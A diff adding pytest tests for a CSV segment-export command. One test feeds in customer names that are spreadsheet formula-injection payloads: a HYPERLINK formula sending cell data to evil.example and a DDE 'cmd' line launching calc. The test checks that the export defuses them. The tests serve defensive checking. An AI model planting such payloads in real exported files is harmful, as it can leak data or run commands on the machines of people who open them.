@@ -11,7 +11,7 @@ import pytest
 from sqlalchemy import Engine
 from tests.conftest import NOW
 from tests.helpers import event, ingest
-from typer.testing import CliRunner
+from typer.testing import CliRunner, Result
 
 from retentio.cli import app
 from retentio.customers.models import CustomerUpsert
@@ -150,3 +150,70 @@ def test_a_rule_file_with_yaml_aliases_is_refused_and_nothing_stored(
         " found &a at line 1, column 4",
     ]
     assert runner.invoke(app, ["segments", "list", "--json"], env=env).stdout.strip() == "[]"
+
+
+def _export(env: dict[str, str], file: Path, *options: str) -> Result:
+    return runner.invoke(app, ["segments", "export", "coffee_lapsing", str(file), *options], env=env)
+
+
+@pytest.mark.usefixtures("viewers")
+def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
+    env: dict[str, str], engine: Engine, tmp_path: Path
+) -> None:
+    # given: anna's own names are formulas; her phone is a plain number
+    upsert = CustomerUpsert(
+        first_name='=HYPERLINK("http://evil.example/?"&A2,"Анна")',
+        last_name="@SUM(1+1)*cmd|' /C calc'!A0",
+        phone="+7 999 123-45-67",
+    )
+    with engine.begin() as connection:
+        do_upsert_customer(connection, "anna", upsert, NOW)
+    _create(env, tmp_path)
+    # when
+    result = _export(env, tmp_path / "out.csv")
+    # then
+    assert result.exit_code == 0, result.output
+    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[1] == [
+        "anna",
+        "anna@example.ru",
+        "+79991234567",
+        """'=HYPERLINK("http://evil.example/?"&A2,"Анна")""",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        NOW.isoformat(),
+    ]
+
+
+@pytest.mark.usefixtures("viewers")
+def test_export_into_a_missing_folder_is_a_clear_error(env: dict[str, str], tmp_path: Path) -> None:
+    _create(env, tmp_path)
+    target = tmp_path / "missing" / "out.csv"
+    result = _export(env, target)
+    assert (result.exit_code, result.stderr.strip()) == (
+        2,
+        f"error: cannot write {target}: the folder {target.parent} does not exist",
+    )
+    assert result.exception is None or isinstance(result.exception, SystemExit)
+    assert not target.parent.exists()
+
+
+@pytest.mark.usefixtures("viewers")
+def test_export_keeps_an_existing_file_unless_forced(env: dict[str, str], tmp_path: Path) -> None:
+    # given
+    _create(env, tmp_path)
+    target = tmp_path / "out.csv"
+    target.write_text("last week's list\n", encoding="utf-8")
+    # when
+    refused = _export(env, target)
+    # then
+    assert (refused.exit_code, refused.stderr.strip()) == (
+        2,
+        f"error: {target} exists already; pass --force to replace it",
+    )
+    assert target.read_text(encoding="utf-8") == "last week's list\n"
+    # when forced
+    forced = _export(env, target, "--force")
+    # then
+    assert forced.exit_code == 0, forced.output
+    assert target.read_text(encoding="utf-8").splitlines()[1].startswith("anna,anna@example.ru,")
